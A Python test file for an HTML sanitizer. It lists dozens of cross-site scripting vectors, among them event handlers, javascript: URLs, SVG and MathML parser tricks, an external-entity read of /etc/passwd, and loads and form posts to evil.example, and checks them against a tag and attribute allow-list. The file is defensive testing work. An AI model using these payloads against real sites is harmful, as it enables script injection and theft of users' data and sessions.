"""Markup that must not run where a question is shown."""

from __future__ import annotations

import re

_EVENTS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")


_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "marquee",
    "a href=x",
    "p style=x",
)


VECTORS = [f"<{tag} {event}=alert(1)>x</{tag.split()[0]}>" for tag in _TAGS for event in _EVENTS] + [
    f'<a href="{scheme}">x</a>' for scheme in (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/")
] + [f'<img src="{src}">' for src in (
    "https://evil.example/a.png", "//evil.example/a.png", "data:image/svg+xml,<svg onload=alert(1)>", "javascript:alert(1)", "/admin/questions/1/delete", "/media/../login",
    "/media/" + "0" * 63, "/media/" + "G" * 64, "bank:missing.png", "file:///etc/passwd", "\\\\evil\\a.png", "blob:x")] + [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>", "<script\x00>alert(1)</script>",
    "<style>@import url(https://evil.example)</style>", "<style>*{background:url(//evil.example)}</style>", '<div style="background:url(javascript:alert(1))">x</div>',
    "<link rel=stylesheet href=//evil.example>", '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example/">',
    "<iframe src=javascript:alert(1)></iframe>", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<object data=javascript:alert(1)></object>", "<embed src=//evil.example>",
    '<form action="//evil.example"><input name=csrf_token><button formaction="//evil.example">x</button></form>', "<isindex action=javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>', "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math href="javascript:alert(1)">x</math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<template><script>alert(1)</script></template>",
    '<table><td background="javascript:alert(1)">x', '<p id="csrf_token" class="btn" name="x">x</p>', "<textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', "<audio src=x onerror=alert(1)>", "<source srcset=//evil.example/x>",
    '<img srcset="//evil.example/a.png 2x" src=x>', '<img src=x lowsrc="javascript:alert(1)" dynsrc=x usemap=#m>', "<map name=m><area href=javascript:alert(1)></map>",
    "<form id=test></form><button form=test formaction=javascript:alert(1)>x", "<select><style></select><img src=x onerror=alert(1)></style>", "<keygen autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>", "<slot name=x onslotchange=alert(1)>", "<x onclick=alert(1)>x</x>", "<portal src=javascript:alert(1)>", "<applet code=x>", "<frameset onload=alert(1)>",
    "<bgsound src=//evil.example>", "<layer src=//evil.example>", '<xss style="behavior:url(x)">', "<b contenteditable oninput=alert(1)>x</b>", "<i accesskey=x onclick=alert(1)>x</i>", "<u tabindex=1 onfocus=alert(1)>x</u>",
]  # fmt: skip

_ALLOWED = {
    "p", "br", "b", "strong", "i", "em", "u", "s", "sub", "sup", "ul", "ol", "li", "table", "thead", "tbody", "tr", "td", "th", "img", "blockquote", "pre", "code", "span",
    "div", "ruby", "rt", "h3", "h4", "hr",
}  # fmt: skip
_ATTRIBUTES = {"src", "alt", "width", "height", "colspan", "rowspan"}


def dangers(html: str) -> list[object]:
    """Parse as a browser's tolerant parser would, and list what the allow-list does not have."""
    from lxml import html as parser

    found: list[object] = []
    for element in parser.fragment_fromstring(html, create_parent="section").iterdescendants():
        if not isinstance(element.tag, str) or element.tag not in _ALLOWED:
            found.append(element.tag)
        found += [f"{name}={value}" for name, value in element.attrib.items() if name not in _ATTRIBUTES]
        if "src" in element.attrib and not re.fullmatch(r"/media/[0-9a-f]{64}", element.attrib["src"]):
            found.append(element.attrib["src"])
    return found
